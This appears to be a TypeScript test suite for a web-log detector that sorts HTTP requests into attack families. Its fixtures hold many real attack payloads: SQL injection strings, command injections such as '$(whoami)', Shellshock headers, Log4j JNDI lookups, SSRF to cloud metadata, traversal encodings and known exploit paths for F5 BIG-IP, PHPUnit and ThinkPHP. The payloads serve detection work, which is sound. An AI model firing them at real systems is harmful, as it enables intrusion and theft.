import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import {
  FAMILIES,
  familyOfHeader,
  familyOfLine,
  familyOfRequest,
  familyOfTarget,
  stronger,
} from '../../../src/detect/web/families.ts';
import { VERBS } from '../../../src/record/request.ts';

const bytesOf = (text: string): Uint8Array => Uint8Array.from(text, (letter) => letter.charCodeAt(0) & 0xff);
type Judge = (bytes: Uint8Array, from: number, to: number) => number;
/** Stands inside other bytes, so that nothing outside may matter. */
const judged = (judge: Judge, text: string): (typeof FAMILIES)[number] => {
  const bytes = bytesOf(`'/../${text}/.env`);
  return FAMILIES[judge(bytes, 5, 5 + text.length)];
};
const line = (text: string): string => judged(familyOfLine, text).name;
const get = (target: string): string => judged(familyOfTarget, target).name;
const header = (text: string): string => judged(familyOfHeader, text).name;

test('a product and its version in the comment of a header is no command', () => {
  assert.equal(header('Composer/2.7.1 (Linux; 6.1.0; PHP 8.2.7; cURL 7.88.1)'), '');
  assert.equal(header('Mozilla/5.0 (X11; wget 1.2; rv)'), '');
  for (const text of ['a; curl 7.example/x | sh', 'x (;ping -c 3 a)', 'Mozilla/5.0 (X11); sleep 5', '$(a;sleep 5)'])
    assert.notEqual(header(text), '', text);
});

test('families have a name of their own, a sentence and a bound, and fit into a byte', () => {
  assert.equal(new Set(FAMILIES.map(({ name }) => name)).size, FAMILIES.length);
  assert.ok(FAMILIES.length < 256);
  for (const { name, about, bits, missing = bits, signs } of FAMILIES.slice(1)) {
    assert.ok(about.length > 10, name);
    assert.ok(bits >= 2 && bits <= 24 && missing >= bits && missing <= 24, name);
    assert.ok(signs === undefined || signs.length > 0, name);
  }
});

/** A target that holds a sign where its marks say. */
function targetOf(sign: string): string {
  const mark = '?*!^'.includes(sign[0]) && sign.length > 1 ? sign[0] : '';
  const end = '$|'.includes(sign.slice(-1)) ? sign.slice(-1) : '';
  const word = sign.slice(mark.length, end === '' ? undefined : -1).replace(/[%\\ +"<>#]/g, encodeURIComponent);
  if (mark === '?') return `/page?a&x${word}`;
  if (mark === '!') return `/page?x=1;${word}`;
  if (mark === '*') return `/page?x${word}${end === '' ? 'a' : ''}`;
  return `${word.startsWith('/') ? '' : '/a'}${word}`;
}

test('every sign is found where it stands, unless a stronger family holds too', () => {
  for (const { name, bits, signs = [] } of FAMILIES)
    for (const sign of signs) {
      const target = targetOf(sign);
      const family = judged(familyOfTarget, target);
      assert.ok(family.bits >= bits, `${name}: ${sign} in ${target} is "${family.name}"`);
    }
});

test('what visitors, crawlers and their programs ask for is of no family', () => {
  for (const target of [
    '/',
    '/index.html',
    '/favicon.ico',
    '/robots.txt',
    '/ads.txt',
    '/sitemap.xml',
    '/apple-touch-icon-120x120-precomposed.png',
    '/.well-known/security.txt',
    '/.well-known/acme-challenge/J9X2-kd8_ab',
    '/.well-known/assetlinks.json',
    '/wp-login.php',
    '/wp-admin/admin-ajax.php',
    '/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8',
    '/wp-content/themes/a/style.css?ver=6.4.3',
    '/wp-json/oembed/1.0/embed?url=https%3A%2F%2Fwww.example.com%2Fpost%2F',
    '/feed/',
    '/shop/product-1.html?utm_source=a&utm_medium=b',
    '/search?q=rock+and+roll',
    '/search?q=black+or+white+2+in+1',
    '/search?q=shampoo+and+2+in+1+conditioner',
    "/search?q=levi's+jeans",
    '/search?q=O%27Neill',
    '/search?q=12%22+vinyl',
    '/search?q=c%2B%2B+order+by+name',
    '/login?next=%2Faccount%2F',
    '/login?returnUrl=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc%26d%3D1',
    '/share?url=https://www.example.com/page?id=1',
    '/api/item/123?fields=id|name|type',
    '/api/v1/users/42',
    '/data?filter={id:5,name:7}&sort=-date',
    '/list?ids=1;2;3&type=a;b',
    '/files/report.pdf#page=2',
    '/img/caf%C3%A9.jpg',
    '/%E4%BD%A0%E5%A5%BD/',
    '/a~b/c.d/e-f_g',
    '/js/app.4f3a9c1e.js',
    '/e/deadbeef',
    '/cart?coupon=SAVE%2010%25',
    '/?fbclid=IwAR0a1b2c3d4e5f6g7h8i9j0_-AbCdEfGhIjKlMnOpQrStUvWxYz',
    '/map?ll=52.5,13.4&q=%28old%29%20town',
    '/calc?x=(1%2B2)*3',
    '/docs/java/lang/Runtime.html',
    '/blog/how-to-use-sqlmap-and-nikto',
    '/wiki/Union_(set_theory)',
    '/news/select-committee-union-talks',
  ])
    assert.equal(get(target), '', target);
  for (const request of [
    '-',
    '',
    'HEAD / HTTP/1.0',
    'GET / HTTP/2.0',
    'POST /a HTTP/1.1',
    'GET /a HTTP/3',
    'OPTIONS * HTTP/1.1',
  ])
    assert.equal(line(request), '', request);
  for (const text of [
    'https://www.google.com/',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
    'https://www.example.com/search?q=a+or+b&x=%7B%22a%22%3A1%7D',
  ])
    assert.equal(header(text), '', text);
});

test('of an exploit and the way it goes the one is told that nobody has an innocent reason for', () => {
  assert.equal(get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp'), 'F5 BIG-IP');
  assert.equal(get('/cgi-bin/.%2e/.%2e/a'), 'Apache httpd');
  assert.equal(get('/x?a=${(%23a=@java.lang.Runtime@getRuntime())}'), 'expression that reaches the runtime');
  assert.equal(get('/?q=java.lang.Runtime'), 'expression injection', 'who reads its manual');
});

test('path traversal in its spellings', () => {
  for (const target of [
    '/bin/.%2e/.%2e/a',
    '/a/..%2f..%2f..%2fb',
    '/a/..%252f..%252fb',
    '/a/%c0%ae%c0%ae/b',
    '/a/%uff0e%uff0e/b',
    '/a/..\\..\\b',
    '/a/..%5c..%5cb',
    '/a/..;/b',
    '/a/.%%32%65/b',
    '/a/....//....//b',
    '/................/config.sys',
  ])
    assert.equal(get(target), 'encoded path traversal', target);
  for (const target of ['/../../a', '/a/../../b', '/get?file=../../../a', '/a?lang=/../../b'])
    assert.equal(get(target), 'path traversal', target);
  assert.equal(get('/css/../img/a.png'), 'dot segments');
  assert.equal(get('/a?next=../b'), 'dot segments');
  assert.equal(get('/a?title=wait...'), '');
  assert.equal(get('/a?q=to+be+continued..'), '');
  assert.equal(get('/get?file=/etc/passwd'), 'file of the system');
});

test('SQL in its shapes', () => {
  for (const value of [
    "1'%20OR%20'1'='1",
    '1%20AND%204577%3D4577',
    '1)%20AND%204577=4578%20AND%20(1=1',
    "a'||'1'='1",
    '1%20and%20not%201=2',
    "x'%20or%201%20like%201--",
    '1%20UNION%20ALL%20SELECT%20NULL,NULL--%20a',
    '1/**/union/**/select/**/1',
    '1%0aunion%0Dselect%091',
    '1%20ORDER%20BY%2010--%20a',
    "1';WAITFOR%20DELAY%20'0:0:5'--",
    '(select(0)from(select(sleep(5)))v)',
    "1'%20and%20extractvalue(1,concat(0x7e,version()))--",
    '1(((,()%22%27..',
  ])
    assert.equal(get(`/item?id=${value}`), 'SQL injection', value);
  assert.equal(get("/item?id=1'"), 'quotation marks in a value');
  assert.equal(get('/item/5%27+union+select+1/'), 'SQL injection');
});

test('commands, templates and code', () => {
  for (const value of [
    '1;id',
    '1|id',
    '`id`',
    '$(whoami)',
    '1%26%26%20wget%20a',
    '1;%20uname%20-a',
    'a|ls%20-l',
    '1;sh%20a',
  ])
    assert.equal(get(`/a?x=${value}`), 'command injection', value);
  for (const value of ['{{7*7}}', '${7*7}', '%23{7*7}', '<%25=%207*7%20%25>', "{{7*'7'}}", '@(1%2b2)', '*{3*4}'])
    assert.equal(get(`/a?x=${value}`), 'template injection', value);
  assert.equal(get('/{{image}}'), '');
  assert.equal(get('/a/${path}/b'), '');
  assert.equal(get('/?-d+allow_url_include%3d1'), 'settings that make PHP run what is sent');
  assert.equal(get('/index.php?-s'), 'arguments for the PHP program');
  assert.equal(get('/index.php?%ADd'), 'arguments for the PHP program');
  assert.equal(get('/a?p=php://filter/x'), 'PHP injection');
  assert.equal(get('/a?x=<script>1'), 'script injection');
  assert.equal(get('/a?x=%22%20onerror=%221'), 'script injection');
  assert.equal(get('/a?page=http://192.0.2.7/x.txt?'), 'inclusion of a remote file');
  assert.equal(get('/a?r=%0d%0aSet-Cookie:x=1'), 'header injection');
  assert.equal(get('/%24%7B%28%23a%3D%40java.lang.Runtime%7D'), 'expression that reaches the runtime');
  assert.equal(get('/a?u=http://169.254.169.254/x'), "request to the cloud's metadata");
  assert.equal(get('/a?u=169.254.169.254/x'), 'request to the inside');
  assert.equal(get('/a?f=x%00.jpg'), 'zero byte');
});

test('attacks in headers', () => {
  assert.equal(header('${${lower:j}ndi:ldap://192.0.2.1/a}'), 'Log4j lookup of a name');
  assert.equal(header('() { :; }; echo; /bin/id'), 'shell function in a header');
  assert.equal(header('() { _; } >_[$($())] { echo 1; }'), 'shell function in a header');
  assert.equal(header("Mozilla/5.0' AND 4=4--"), 'SQL injection');
  assert.equal(get('/?x=${jndi:ldap://192.0.2.1/a}'), 'Log4j lookup of a name');
});

test('files, consoles and published weaknesses, wherever the site begins', () => {
  assert.equal(get('/.git/HEAD'), 'version control');
  assert.equal(get('/shop/.env.bak'), 'secrets');
  assert.equal(get('/.environment'), 'hidden name');
  assert.equal(get('/backup.zip'), 'archive of a guessed name');
  assert.equal(get('/www.example.com.tar.gz'), 'archive of a guessed name');
  assert.equal(get('/index.php~'), 'backup copy');
  assert.equal(get('/dump.sql?x=1'), 'database dump');
  assert.equal(get('/PMA/'), 'database by web');
  assert.equal(get('/admin'), 'administration by a usual name');
  assert.equal(get('/administer-your-own-site'), '');
  assert.equal(get('//vendor//phpunit/phpunit/src/Util/PHP/eval-stdin.php'), 'PHPUnit');
  assert.equal(get('/?author=1'), 'users by number');
  assert.equal(get('/?author=smith'), '');
  assert.equal(get('/?s=index/%5Cthink%5Capp/invokefunction'), 'ThinkPHP');
  assert.equal(get('/autodiscover/autodiscover.json?@a.example/mapi/nspi'), 'Exchange');
  assert.equal(get('/usr/help.html%3f'), 'encoded question mark at the end');
});

test('methods, versions and forms', () => {
  assert.equal(line('TRACE / HTTP/1.1'), 'method for diagnosis');
  assert.equal(line('TRACK / HTTP/1.1'), 'method for diagnosis');
  assert.equal(line('PROPFIND / HTTP/1.1'), 'WebDAV method');
  assert.equal(line('JUNK / HTTP/1.0'), 'method that is not registered');
  assert.equal(line('get / HTTP/1.1'), 'method that is not registered');
  assert.equal(line('CONNECT www.example.com:443 HTTP/1.1'), 'another site by way of this one');
  assert.equal(line('GET http://www.example.com/ HTTP/1.1'), 'another site by way of this one');
  assert.equal(line('GET http://www.example.com/azenv.php HTTP/1.1'), 'proxy judge');
  assert.equal(line('GET login.cgi HTTP/1.0'), 'form of target that is no path');
  assert.equal(line('GET / HTTP/9.8'), 'version that does not exist');
  assert.equal(line('GET / JUNK/1.0'), 'version that does not exist');
  assert.equal(line('GET /'), 'request without a version');
  assert.equal(line('GET /.git/config'), 'version control');
  assert.equal(line(`GET /?${'a'.repeat(300)} HTTP/1.1`), 'very long run of one letter');
  assert.equal(line('GET /%69ndex.html HTTP/1.1'), 'needless encoding');
  assert.equal(line('GET /7a97c64656412a9 HTTP/1.1'), 'random name');
  assert.equal(line('GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0'), 'scanner that names itself');
});

test('first bytes of other protocols', () => {
  assert.equal(line('\\x16\\x03\\x01\\x00t\\x01'), 'TLS at a port without');
  assert.equal(line('\x16\x03\x01\x02\x00'), 'TLS at a port without');
  for (const text of [
    '\\x03\\x00\\x00/*\\xE0',
    'SSH-2.0-Go',
    'Cookie: mstshash=a',
    '\\x05\\x01\\x00',
    't3 12.1.2',
    '{"id":1}',
  ])
    assert.equal(line(text), 'another protocol', text);
  assert.equal(line('OPTIONS sip:nm SIP/2.0'), 'another protocol');
  assert.equal(line('\\x1B\\x84\\xD5\\xB0'), 'bytes of no protocol');
  assert.equal(line('batman'), 'request line that breaks off');
  assert.equal(line('  '), 'request line that breaks off');
});

test('rows of a batch are judged like lines', () => {
  const verb = (name: string): number => VERBS.indexOf(name as (typeof VERBS)[number]);
  const target = bytesOf('/.env');
  const row = (verbName: string, isBroken: boolean, text: Uint8Array): string =>
    FAMILIES[familyOfRequest(verb(verbName), isBroken, text, 0, text.length)].name;
  assert.equal(row('GET', false, target), 'secrets');
  assert.equal(row('TRACE', false, target), 'method for diagnosis');
  assert.equal(row('other', false, bytesOf('/')), 'method that is not registered');
  assert.equal(row('GET', true, bytesOf('/ JUNK/1.0')), 'version that does not exist');
  assert.equal(row('GET', true, bytesOf('/')), 'request without a version');
  assert.equal(row('', true, bytesOf('SSH-2.0-Go')), 'another protocol');
});

test('the stronger family is that with more bits, and the first of equals', () => {
  const of = (name: string): number => FAMILIES.findIndex((family) => family.name === name);
  assert.equal(stronger(of('secrets'), of('SQL injection')), of('SQL injection'));
  assert.equal(stronger(of('SQL injection'), of('secrets')), of('SQL injection'));
  assert.equal(stronger(of('version control'), of('secrets')), of('version control'));
  assert.equal(stronger(0, 0), 0);
});

test('any bytes are judged, and by themselves only', () => {
  const bytes = fc.uint8Array({ maxLength: 200 });
  fc.assert(
    fc.property(bytes, bytes, (text, around) => {
      for (const judge of [familyOfLine, familyOfTarget, familyOfHeader]) {
        const alone = judge(text, 0, text.length);
        assert.ok(alone >= 0 && alone < FAMILIES.length);
        const within = Uint8Array.from([...around, ...text, ...around]);
        assert.equal(judge(within, around.length, around.length + text.length), alone);
      }
    }),
  );
});
